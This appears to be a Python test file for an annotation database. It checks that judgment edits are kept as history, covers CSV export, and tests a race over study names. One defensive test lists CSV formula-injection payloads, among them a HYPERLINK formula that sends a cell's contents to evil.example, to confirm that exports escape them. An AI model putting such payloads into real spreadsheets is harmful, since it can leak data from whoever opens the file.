"""Nothing lost (issue 12): every create and edit of a judgment is kept; results use the latest value. Also the
export's formula safety and the study-name race."""
from __future__ import annotations

import multiprocessing as mp

import pandas as pd
import pytest
from sqlalchemy import func, select

from db import stats, store
from db.history import history_frame, judgment_history
from db.schema import Judgment, JudgmentEvent
from db.session import init_db, make_engine, read_session
from db.store import JudgmentError
from db.studies import StudyError, create_study, study_pairs
from tests.db._backup_worker import create_named_study
from tests.db.conftest import fake_recommend, row_counts


def _model_pair(engine, study) -> int:
    pairs = study_pairs(engine, study)
    return int(pairs[~pairs["is_gold"]]["pair_id"].iloc[0])


def test_every_create_and_edit_is_kept_and_results_use_the_latest(engine, study):
    """Finding: editing a judgment overwrote it; the earlier value was gone."""
    store.get_or_create_annotator(engine, "ann")
    pid = _model_pair(engine, study)
    jid = store.submit_judgment(engine, study, pid, "ann", False, ["colour_clash", "print_clash"], "clash", 3.0)
    assert store.submit_judgment(engine, study, pid, "ann", True, [], "on second look, fine", 5.0) == jid
    store.submit_judgment(engine, study, pid, "ann", None, [], "skip")

    events = judgment_history(engine, study_id=study)
    assert [(e.action, e.judgment_id, e.annotator) for e in events] == [("create", jid, "ann"), ("edit", jid, "ann"),
                                                                        ("edit", jid, "ann")]
    first, second, third = events
    assert first.old is None
    assert (first.new.compatible, first.new.failure_modes, first.new.comment) == (
        False, ("colour_clash", "print_clash"), "clash")
    assert second.old == first.new and (second.new.compatible, second.new.comment) == (True, "on second look, fine")
    assert third.old == second.new and third.new.compatible is None
    assert first.at <= second.at <= third.at and second.seconds_taken == 5.0

    # the judgments table keeps one row, the latest value; results read it
    with read_session(engine) as s:
        assert s.scalar(select(func.count()).select_from(Judgment)) == 1
    assert store.get_judgment(engine, pid, "ann").comment == "skip"
    store.submit_judgment(engine, study, pid, "ann", True)
    prec = stats.precision_by_model(engine, study).set_index("model")
    assert prec["compatible"].sum() == prec["judged"].sum() >= 1   # the latest value (True) counts, not False


def test_a_refused_submit_writes_no_history(engine, study):
    store.get_or_create_annotator(engine, "ann")
    pid = _model_pair(engine, study)
    store.submit_judgment(engine, study, pid, "ann", False, ["colour_clash"])
    before = row_counts(engine)
    with pytest.raises(JudgmentError):
        store.submit_judgment(engine, study, pid, "ann", True, ["colour_clash"])   # modes on a compatible pair
    with pytest.raises(JudgmentError):
        store.submit_judgment(engine, study, pid, "ann", False, ["no_such_mode"])
    assert row_counts(engine) == before
    assert before[JudgmentEvent.__tablename__] == 1


def test_history_is_filtered_and_exported(engine, study, tmp_path):
    pid = _model_pair(engine, study)
    for who in ("ann", "bob"):
        store.get_or_create_annotator(engine, who)
        store.submit_judgment(engine, study, pid, who, True)
    store.submit_judgment(engine, study, pid, "bob", False, ["style_mismatch"], "changed my mind")
    assert len(judgment_history(engine, annotator_name="bob")) == 2
    assert len(judgment_history(engine, pair_id=pid)) == 3
    frame = history_frame(engine, study)
    assert frame["action"].tolist() == ["create", "create", "edit"]
    paths = stats.export_csv(engine, study, tmp_path / "out")
    exported = pd.read_csv(paths[2], keep_default_na=False)
    assert exported["new_failure_modes"].tolist() == ["", "", "style_mismatch"]
    assert exported.loc[2, "old_compatible"] in (True, "True")


@pytest.mark.parametrize("evil", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)",
                                  "\tcmd", "\r=1"])
def test_csv_export_is_safe_from_formula_injection(engine, study, tmp_path, evil):
    """Finding: CSV exports were open to formula injection (=HYPERLINK…)."""
    pid = _model_pair(engine, study)
    store.get_or_create_annotator(engine, "@ann")
    store.submit_judgment(engine, study, pid, "@ann", False, ["colour_clash"], evil)
    paths = stats.export_csv(engine, study, tmp_path / "out")
    for path in (paths[0], paths[2]):
        text = path.read_text()
        df = pd.read_csv(path, keep_default_na=False, dtype=str)
        comment_col = "comment" if "comment" in df.columns else "new_comment"
        assert set(df[comment_col]) == {"'" + evil}, text
        assert set(df["annotator"]) == {"'@ann"}
    df = pd.DataFrame({"a": [evil, "plain", None], "n": [-1.5, 2.0, 3.0]})
    out = pd.read_csv(__import__("io").StringIO(stats.csv_text(df)), keep_default_na=False, dtype=str)
    assert out["a"].tolist() == ["'" + evil, "plain", ""] and out["n"].tolist() == ["-1.5", "2.0", "3.0"]


def test_study_created_meanwhile_by_another_process_is_a_study_error(engine):
    """Finding: two processes creating a study of the same name at once ended in a raw IntegrityError.

    Deterministic version: while this call runs its models (after its first name check), "another process"
    creates the same name."""
    def recommend_and_race(method, product_id, k):
        if not calls:
            create_study(engine, "pilot", ["x"], ["a"], fake_recommend, k=2)   # the other process wins the race
        calls.append(product_id)
        return fake_recommend(method, product_id, k)

    calls: list[str] = []
    with pytest.raises(StudyError, match="a study named 'pilot' already exists"):
        create_study(engine, "pilot", ["q1", "q2"], ["a"], recommend_and_race, k=2)
    with pytest.raises(StudyError, match="already exists"):
        create_study(engine, "pilot", ["q1"], ["a"], fake_recommend, k=2)


def test_two_processes_creating_one_study_name(tmp_path):
    url = f"sqlite:///{tmp_path / 'ctl.sqlite'}"
    engine = make_engine(url)
    init_db(engine)
    ctx = mp.get_context("spawn")
    n = 4
    barrier, results = ctx.Barrier(n), ctx.Queue()
    procs = [ctx.Process(target=create_named_study, args=(url, "same", barrier, results)) for _ in range(n)]
    for p in procs:
        p.start()
    out = sorted(results.get(timeout=120) for _ in procs)
    for p in procs:
        p.join(timeout=30)
    assert out.count("created") == 1, out
    assert all(o.startswith("StudyError: a study named 'same' already exists") for o in out if o != "created"), out
    engine.dispose()


# ------------------------------------------------------------------------------------------------ on PostgreSQL

from tests.db.test_postgres import pg, pg_url  # noqa: E402, F401  (fixtures: a private PostgreSQL cluster)


def test_history_and_the_study_name_race_on_postgres(pg, pg_url):  # noqa: F811 (the fixtures above)
    """On PostgreSQL two transactions can both pass the name check; the loser's IntegrityError is a StudyError."""
    from sqlalchemy import event
    from sqlalchemy.orm import Session

    from db.schema import Study

    other = make_engine(pg_url)
    fired: list[int] = []

    def other_process_wins(session, flush_context, instances):
        if not fired and any(isinstance(o, Study) for o in session.new):
            fired.append(1)   # between our check and our insert, another process commits the same name
            create_study(other, "race", ["x"], ["a"], fake_recommend, k=2)

    event.listen(Session, "before_flush", other_process_wins)
    try:
        with pytest.raises(StudyError, match="a study named 'race' already exists"):
            create_study(pg, "race", ["q1"], ["a"], fake_recommend, k=2)
    finally:
        event.remove(Session, "before_flush", other_process_wins)
        other.dispose()
    assert fired == [1]

    sid = create_study(pg, "pg", ["q1"], ["a"], fake_recommend, k=2)
    store.get_or_create_annotator(pg, "ann")
    pid = int(study_pairs(pg, sid)["pair_id"].iloc[0])
    store.submit_judgment(pg, sid, pid, "ann", False, ["colour_clash"], "no")
    store.submit_judgment(pg, sid, pid, "ann", True, [], "yes")
    events = judgment_history(pg, study_id=sid)
    assert [e.action for e in events] == ["create", "edit"] and events[1].old.failure_modes == ("colour_clash",)
